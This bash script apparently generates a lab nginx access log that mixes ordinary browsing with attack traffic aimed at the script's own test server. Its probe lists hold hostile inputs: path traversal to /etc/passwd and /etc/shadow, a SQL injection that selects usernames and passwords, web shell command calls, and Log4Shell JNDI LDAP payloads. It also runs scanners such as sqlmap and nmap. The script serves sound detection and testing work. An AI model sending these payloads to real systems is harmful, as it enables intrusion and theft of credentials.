# nginx with a small site, people reading it, and six kinds of scanner.
# shellcheck shell=bash disable=SC2154,SC2016  # names come from cell.sh; ${jndi…} is meant

readonly site="http://$attacker"
readonly browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'
readonly phone='Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36'
readonly -a pages=(/ /tin-tuc.html /thu-tuc.html /lien-he.html '/tim-kiem.html?q=khai+sinh' /style.css)

make_site() {
  local page
  mkdir -p /var/www/site /var/log/nginx
  for page in index tin-tuc thu-tuc lien-he tim-kiem; do
    printf '<!doctype html><title>%s</title><link rel=stylesheet href=/style.css><h1>%s</h1>\n' \
      "$page" "$page" >"/var/www/site/$page.html"
  done
  echo 'h1{color:navy}' >/var/www/site/style.css
  cat >/tmp/nginx.conf <<'CONF'
user www-data; daemon off; pid /run/nginx.pid; error_log /tmp/error.log;
events {}
http {
  include /etc/nginx/mime.types;
  access_log /var/log/nginx/access.log combined;
  server { listen 80; root /var/www/site; }
}
CONF
  start nginx -c /tmp/nginx.conf
  wait_for curl -so /dev/null "http://$server/"
  : >/var/log/nginx/access.log
}

people_read() {
  local client page
  for client in "${office[@]}"; do
    for page in "${pages[@]}"; do
      curl -so /dev/null --interface "$client" -A "$browser" -e "http://$server/" "http://$server$page"
    done
  done
  curl -so /dev/null --interface "${office[1]}" -A "$phone" "http://$server/favicon.ico"
  curl -so /dev/null --interface "${office[2]}" -A "$phone" "http://$server/tin-cu.html"
}

probe() {  # probe USER_AGENT PATH…
  local agent=$1 path
  shift
  for path in "$@"; do curl -so /dev/null --path-as-is -A "$agent" "$site$path" || true; done
}

hand_made_probes() {
  probe 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))' \
    /.env /.git/config /actuator/env /phpinfo.php /wp-login.php /server-status
  probe 'python-requests/2.31.0' '/../../../../etc/passwd' '/%2e%2e/%2e%2e/%2e%2e/etc/shadow' \
    '/tai-ve.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd' \
    '/tim-kiem.html?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-' \
    '/uploads/c99.php?cmd=id' '/uploads/shell.jsp?cmd=whoami' '/images/b374k.php' \
    '/upload/x.php?0=system&1=cat%20/etc/passwd' '/?x=$%7Bjndi:ldap://127.0.0.66:1389/a%7D'
  probe '${jndi:ldap://127.0.0.66:1389/Basic/Command}' / /login
}

programs_scan() {
  head -n 300 /usr/share/dirb/wordlists/small.txt >/tmp/words
  dirb "$site/" /tmp/words -S -r || true
  whatweb --color=never "$site" || true
  timeout 40 sqlmap -u "$site/tim-kiem.html?q=1" --batch --level 1 --technique=BU --threads 4 \
    --output-dir /tmp/sqlmap || true
  timeout 40 nmap -p 80 --script http-title,http-methods,http-git,http-robots.txt,http-shellshock "$attacker" || true
}

make_site
people_read
hand_made_probes
programs_scan
people_read
sleep 1
keep nginx/access.log
